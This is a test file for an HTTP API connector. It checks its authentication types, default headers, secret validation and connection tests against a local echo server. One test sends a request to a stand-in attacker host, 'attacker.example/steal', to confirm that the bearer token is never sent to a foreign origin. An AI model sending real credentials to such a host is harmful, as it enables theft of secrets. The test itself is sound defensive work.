import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { instantiateConnector, type SecretValues } from '@steward/sdk';
import type { SimulatorServer } from '@steward/sdk/simulator';
import { ECHO_SECRETS, startEchoServer } from './echo-server.js';
import { httpApi } from './index.js';

let server: SimulatorServer;
beforeAll(async () => {
  server = await startEchoServer();
});
afterAll(() => server.close());

function open(auth: Record<string, unknown>, secrets: SecretValues, extra: Record<string, unknown> = {}) {
  return instantiateConnector(httpApi, {
    config: { baseUrl: `${server.url}/`, auth, maxRetries: 0, ...extra },
    secrets,
  });
}

async function echoedHeaders(auth: Record<string, unknown>, secrets: SecretValues) {
  const res = await open(auth, secrets).http.request({ path: '/echo' });
  return (res.json as { headers: Record<string, string> }).headers;
}

describe('HTTP API connector', () => {
  it('sends each auth type the way the API expects it', async () => {
    expect((await echoedHeaders({ type: 'bearer' }, { token: ECHO_SECRETS.token })).authorization).toBe(
      `Bearer ${ECHO_SECRETS.token}`,
    );
    const keyed = await echoedHeaders(
      { type: 'header', header: 'X-Api-Key', prefix: 'Key' },
      { token: ECHO_SECRETS.token },
    );
    expect(keyed['x-api-key']).toBe(`Key ${ECHO_SECRETS.token}`);
    const basic = await echoedHeaders(
      { type: 'basic', username: 'admin' },
      { password: ECHO_SECRETS.password },
    );
    expect(basic.authorization).toMatch(/^Basic /);
    const oauth = await echoedHeaders(
      {
        type: 'oauth2_client_credentials',
        tokenUrl: `${server.url}/oauth/token`,
        clientId: ECHO_SECRETS.clientId,
      },
      { clientSecret: ECHO_SECRETS.clientSecret },
    );
    expect(oauth.authorization).toMatch(/^Bearer at-/);
  });

  it('adds the configured default headers to every request', async () => {
    const instance = open(
      { type: 'bearer' },
      { token: ECHO_SECRETS.token },
      { headers: { 'X-Api-Version': '7' } },
    );
    const res = await instance.http.request({ path: '/echo' });
    expect((res.json as { headers: Record<string, string> }).headers['x-api-version']).toBe('7');
  });

  it('names the missing secret for the chosen auth type', () => {
    expect(() => open({ type: 'basic', username: 'admin' }, {})).toThrow(
      expect.objectContaining({ details: [expect.objectContaining({ path: 'secrets.password' })] }),
    );
    expect(() => open({ type: 'bearer' }, { password: 'x' })).toThrow(/needs the secret "token"/);
  });

  it('refuses a configuration with an unknown auth type, naming the field', () => {
    expect(() => open({ type: 'kerberos' }, {})).toThrow(
      expect.objectContaining({ details: [expect.objectContaining({ path: 'auth.type' })] }),
    );
  });

  it('never sends the credential to another origin', async () => {
    const instance = open({ type: 'bearer' }, { token: ECHO_SECRETS.token });
    await expect(instance.http.request({ path: 'https://attacker.example/steal' })).rejects.toMatchObject({
      code: 'foreign_url',
    });
    expect(server.requests.some((r) => r.path === '/steal')).toBe(false);
  });

  it('test connection passes on a 2xx and fails with the status otherwise, without the secret', async () => {
    const good = await open({ type: 'bearer' }, { token: ECHO_SECRETS.token }, { testPath: '/echo' }).test();
    expect(good).toEqual({ ok: true, message: expect.stringContaining('200') });
    const bad = await open({ type: 'bearer' }, { token: 'wrong-token-123' }, { testPath: '/echo' }).test();
    expect(bad.ok).toBe(false);
    expect(bad.message).toMatch(/401/);
    expect(bad.message).not.toContain('wrong-token-123');
    const oauthBad = await open(
      {
        type: 'oauth2_client_credentials',
        tokenUrl: `${server.url}/oauth/token`,
        clientId: ECHO_SECRETS.clientId,
      },
      { clientSecret: 'not-the-secret-42' },
      { testPath: '/echo' },
    ).test();
    expect(oauthBad.ok).toBe(false);
    expect(oauthBad.message).not.toContain('not-the-secret-42');
  });
});
